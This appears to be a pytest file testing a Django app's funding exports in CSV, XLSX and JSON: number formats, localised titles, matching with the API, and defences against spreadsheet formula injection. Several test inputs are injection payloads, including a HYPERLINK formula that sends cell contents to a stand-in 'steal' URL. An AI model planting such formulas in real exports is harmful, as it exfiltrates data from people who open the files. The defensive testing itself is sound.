"""Exports: the shared CSV/XLSX writer (restrack/core/exports.py) and the public funding exports,
read back with the csv module, openpyxl and json and compared with the pages' figures and the
API's export to the cent."""

import csv
import io
import json
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from rest_framework.test import APIClient

from restrack.accounts import policy
from restrack.core.exports import Sheet, write_csv, write_xlsx
from restrack.funding.actions import record_funding
from restrack.funding.models import FundingRecord
from restrack.publish.tests.funding_samples import _shared_funding, exact, instruments_in, sample_funding, total  # noqa: F401  (the fixtures)
from restrack.registry.models import Instrument
from restrack.registry.selectors import find_instrument
from restrack.reporting.models import ReportingPeriod

HEADER = [
    "instrument",
    "title",
    "period",
    "requirements_usd",
    "mobilized_core_usd",
    "mobilized_earmarked_usd",
    "mobilized_window_usd",
    "mobilized_other_usd",
    "mobilized_usd",
    "gap_usd",
    "surplus_usd",
    "gap_percent",
    "note",
]
AMOUNT_COLUMNS = HEADER[3:11]
FORMULAS = ['=HYPERLINK("http://example.org/x","click")', "+1+1", "-2+3", "@SUM(A1:A2)"]


def read_csv(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf")  # a byte-order mark: Excel reads UTF-8
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def read_xlsx(content: bytes):
    workbook = load_workbook(io.BytesIO(content))
    return workbook


def sheet_rows(worksheet) -> list[dict]:
    rows = list(worksheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


# The writer ----------------------------------------------------------------------------------


def test_csv_keeps_numbers_and_neutralises_formulas_in_text():
    content = write_csv(
        ["what", "amount", "count", "day"],
        [
            *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
            ["人人享有适当住房", Decimal("1858000.55"), 7, None],
            ["plain = text", Decimal("1E+3").quantize(Decimal("0.01")), 0, None],
        ],
    )
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == ["what", "amount", "count", "day"]
    assert [row[0] for row in rows[1:5]] == ["'" + text for text in FORMULAS]
    assert rows[1][1:] == ["-100.50", "-3", "2024-12-31"]  # a negative number is a number, not text
    assert rows[5] == ["人人享有适当住房", "1858000.55", "7", ""]
    assert rows[6] == ["plain = text", "1000.00", "0", ""]  # plain digits, never 1E+3
    assert b"\r\n" in content


def test_control_characters_pasted_from_a_pdf_do_not_break_the_xlsx():
    workbook = read_xlsx(write_xlsx([Sheet("Notes", ["note"], [["page 1\x0cpage 2\x0b"]])]))
    assert workbook.active["A2"].value == "page 1page 2"


def test_xlsx_keeps_numbers_and_neutralises_formulas_in_text():
    content = write_xlsx(
        [
            Sheet(
                "Funding",
                ["what", "amount", "count", "day"],
                [
                    *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
                    ["人人享有适当住房", Decimal("1858000.55"), 7, None],
                ],
            ),
            Sheet("A sheet title longer than Excel's limit: [31]", ["x"], [[1]]),
        ]
    )
    workbook = read_xlsx(content)
    assert workbook.sheetnames == ["Funding", "A sheet title longer than Excel"]
    sheet = workbook["Funding"]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    for row, text in enumerate(FORMULAS, start=2):
        cell = sheet.cell(row=row, column=1)
        assert cell.value == "'" + text and cell.data_type == "s"  # text, never a formula
        amount = sheet.cell(row=row, column=2)
        assert amount.data_type == "n" and amount.value == -100.5 and amount.number_format == "#,##0.00"
        assert sheet.cell(row=row, column=3).value == -3
        assert sheet.cell(row=row, column=4).value.date() == date(2024, 12, 31)
    assert sheet["A6"].value == "人人享有适当住房" and Decimal(str(sheet["B6"].value)) == Decimal("1858000.55")
    assert sheet["D6"].value is None


# The funding exports ---------------------------------------------------------------------------


pytestmark = pytest.mark.django_db


def expected_rows(period=None) -> list[dict]:
    """The published records, instruments in report order (Instrument.Meta.ordering) and each
    one's periods oldest first, as exact strings per column."""
    place = {pk: n for n, pk in enumerate(Instrument.objects.values_list("pk", flat=True))}
    records = policy.public(FundingRecord.objects.select_related("instrument", "period"))
    if period is not None:
        records = records.filter(period=period)
    rows = []
    for record in sorted(records, key=lambda record: (place[record.instrument_id], record.period.start_date)):
        line_period, figures = record.period, record.figures
        line = record
        values = [
            figures.requirements,
            *figures.mobilized_by_source.values(),
            figures.mobilized,
            figures.shortfall,
            figures.surplus,
        ]
        rows.append(
            {
                "instrument": line.instrument.reference,
                "period": line_period.label,
                **{
                    name: "" if value is None else f"{value:.2f}"
                    for name, value in zip(AMOUNT_COLUMNS, values, strict=True)
                },
            }
        )
    return rows


def test_csv_of_every_published_period(client, sample_funding):
    response = client.get("/en/funding/export.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-all-periods.csv"'
    rows = read_csv(response.getvalue())
    assert list(rows[0]) == HEADER
    assert len(rows) == 22 and {row["period"] for row in rows} == {"2020-H1", "2024-H2"}  # never the draft 2025-H1
    assert [{key: row[key] for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows] == expected_rows()
    surplus = next(row for row in rows if row["instrument"] == "resolution 2/8")
    assert (surplus["gap_usd"], surplus["surplus_usd"], surplus["gap_percent"]) == ("0.00", "100000.00", "0")
    unknown = next(row for row in rows if row["instrument"] == "resolution 2/4")
    assert (unknown["mobilized_usd"], unknown["gap_usd"], unknown["gap_percent"]) == ("", "", "")
    first = rows[0]
    assert first["title"] == "UN-Habitat strategic plan for the period 2020–2023" and first["gap_percent"] == "59"
    assert first["note"] == "Made-up sample figures for demonstration; not UN-Habitat data."


def test_xlsx_of_one_period_matches_the_page_to_the_cent(client, sample_funding):
    response = client.get("/en/funding/export.xlsx?period=2024-H2")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-2024-H2.xlsx"'
    workbook = read_xlsx(response.getvalue())
    sheet = workbook[workbook.sheetnames[0]]
    rows = sheet_rows(sheet)
    assert len(rows) == 16 and {row["period"] for row in rows} == {"2024-H2"}
    assert sheet["D2"].data_type == "n" and sheet["D2"].number_format == "#,##0.00"
    cents = {name: sum(Decimal(str(row[name])) for row in rows if row[name] is not None) for name in AMOUNT_COLUMNS}
    html = client.get("/en/funding/?period=2024-H2").content.decode()
    assert cents["requirements_usd"] == exact(total(html, "requirements")) == Decimal("24408000.00")
    assert cents["mobilized_usd"] == exact(total(html, "mobilized")) == Decimal("15540551.15")
    assert cents["gap_usd"] - cents["surplus_usd"] == exact(total(html, "gap")) == Decimal("7767448.85")
    assert cents["mobilized_window_usd"] == Decimal("400000.00")
    exported = [
        {key: "" if row[key] is None else f"{Decimal(str(row[key])):.2f}" for key in AMOUNT_COLUMNS} for row in rows
    ]
    period = ReportingPeriod.objects.get(label="2024-H2")
    assert exported == [{key: row[key] for key in AMOUNT_COLUMNS} for row in expected_rows(period)]


def test_titles_in_the_page_language(client, sample_funding):
    rows = read_csv(client.get("/zh-hans/funding/export.csv?period=2024-H2").getvalue())
    titles = {row["instrument"]: row["title"] for row in rows}
    assert titles["resolution 2/7"] == "人人享有适当住房"
    workbook = read_xlsx(client.get("/zh-hans/funding/export.xlsx").getvalue())
    assert "人人享有适当住房" in [row["title"] for row in sheet_rows(workbook.active)]
    english = read_csv(client.get("/en/funding/export.csv?period=2024-H2").getvalue())
    assert {row["instrument"]: row["title"] for row in english}["resolution 2/7"] == "Adequate housing for all"


def test_a_formula_in_a_note_comes_back_as_text(client, sample_funding):
    record_funding(
        find_instrument("resolution 2/6"),
        ReportingPeriod.objects.get(label="2024-H2"),
        note='=HYPERLINK("http://example.org/steal?x="&A1,"Details")',
        acting_user=sample_funding,
        reason="A test of formula injection",
    )
    row = next(
        r
        for r in read_csv(client.get("/en/funding/export.csv?period=2024-H2").getvalue())
        if r["instrument"] == "resolution 2/6"
    )
    assert row["note"] == '\'=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
    sheet = read_xlsx(client.get("/en/funding/export.xlsx?period=2024-H2").getvalue()).active
    cell = next(c for c in sheet["M"] if isinstance(c.value, str) and "HYPERLINK" in c.value)
    assert cell.data_type == "s" and cell.value.startswith("'=HYPERLINK(")
    assert not any(c.data_type == "f" for line in sheet.iter_rows() for c in line)


def test_a_period_without_published_figures_is_a_clear_404(client, sample_funding):
    response = client.get("/en/funding/export.csv?period=2025-H1")
    assert response.status_code == 404
    assert response.content.decode() == (
        "No published funding figures for the period 2025-H1. Published periods with figures: 2020-H1, 2024-H2."
    )
    assert client.get("/en/funding/export.pdf").status_code == 404


def test_ranking_export_follows_the_page(client, sample_funding):
    html = client.get("/en/funding/under-funded/").content.decode()
    response = client.get("/en/funding/ranking.csv?period=2024-H2")
    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-ranking-2024-H2.csv"'
    rows = read_csv(response.getvalue())
    assert [row["instrument"] for row in rows] == instruments_in(html, "ranking-gap")
    by_percent = sorted(rows, key=lambda row: int(row["rank_by_gap_percent"]))
    assert [row["instrument"] for row in by_percent] == instruments_in(html, "ranking-gap-percent")
    assert rows[0]["gap_usd"] == "1684500.00" and rows[0]["gap_percent"] == "53"
    sheet = read_xlsx(client.get("/en/funding/ranking.xlsx").getvalue()).active
    assert [row["instrument"] for row in sheet_rows(sheet)] == [row["instrument"] for row in rows]


def test_exports_read_a_fixed_number_of_queries(client, sample_funding, django_assert_max_num_queries):
    with django_assert_max_num_queries(4):  # periods with figures, records with their periods, instruments
        client.get("/en/funding/export.xlsx")


# JSON, and the same table as the API's --------------------------------------------------------


def test_json_of_every_published_period_holds_the_csvs_rows(client, sample_funding):
    response = client.get("/en/funding/export.json")
    assert response["Content-Type"] == "application/json"
    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-all-periods.json"'
    rows = json.loads(response.getvalue())
    assert list(rows[0]) == HEADER
    as_csv = read_csv(client.get("/en/funding/export.csv").getvalue())
    assert [{key: "" if value is None else str(value) for key, value in row.items()} for row in rows] == as_csv
    assert [
        {key: row[key] or "" for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows
    ] == expected_rows()


def test_the_public_download_and_the_apis_export_are_the_same_table(client, sample_funding):
    """Same columns, same rows (the API lists the latest period first), same amounts to the cent."""
    web = json.loads(client.get("/en/funding/export.json").getvalue())
    api = json.loads(APIClient().get("/api/v1/funding/records/export.json?lang=en").getvalue())
    assert sorted(web, key=lambda row: (row["instrument"], row["period"])) == sorted(
        api, key=lambda row: (row["instrument"], row["period"])
    )
    listed = APIClient().get("/api/v1/funding/records/?period=2024-H2&limit=1000").json()["results"]
    web_2024 = {row["instrument"]: row for row in web if row["period"] == "2024-H2"}
    assert {
        r["instrument"]: (r["requirements_usd"], r["mobilized_usd"], r["shortfall_usd"], r["surplus_usd"])
        for r in listed
    } == {
        name: (row["requirements_usd"], row["mobilized_usd"], row["gap_usd"], row["surplus_usd"])
        for name, row in web_2024.items()
    }


def test_a_formula_in_a_note_is_unchanged_in_json(client, sample_funding):
    note = '=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
    record_funding(
        find_instrument("resolution 2/6"),
        ReportingPeriod.objects.get(label="2024-H2"),
        note=note,
        acting_user=sample_funding,
        reason="A test of formula injection",
    )
    rows = json.loads(client.get("/en/funding/export.json?period=2024-H2").getvalue())
    assert next(row for row in rows if row["instrument"] == "resolution 2/6")["note"] == note


def test_ranking_as_json(client, sample_funding):
    response = client.get("/zh-hans/funding/ranking.json?period=2024-H2")
    assert response["Content-Disposition"] == 'attachment; filename="restrack-funding-ranking-2024-H2.json"'
    rows = json.loads(response.getvalue())
    csv_rows = read_csv(client.get("/zh-hans/funding/ranking.csv?period=2024-H2").getvalue())
    assert [row["instrument"] for row in rows] == [row["instrument"] for row in csv_rows]
    assert rows[0]["rank_by_gap"] == 1 and rows[0]["gap_usd"] == "1684500.00" and rows[0]["gap_percent"] == 53
    assert [row["title"] for row in rows] == [row["title"] for row in csv_rows]
    assert any("\u4e00" <= character <= "\u9fff" for row in rows for character in row["title"])  # titles in Chinese


def test_the_funding_page_offers_json_next_to_csv_and_xlsx(client, sample_funding):
    html = client.get("/en/funding/").content.decode()
    for extension in ("csv", "xlsx", "json"):
        assert f'href="/en/funding/export.{extension}?period=2024-H2"' in html
        assert f'href="/en/funding/export.{extension}"' in html
        assert f'href="/en/funding/ranking.{extension}?period=2024-H2"' in html
    assert "(JSON)" in html
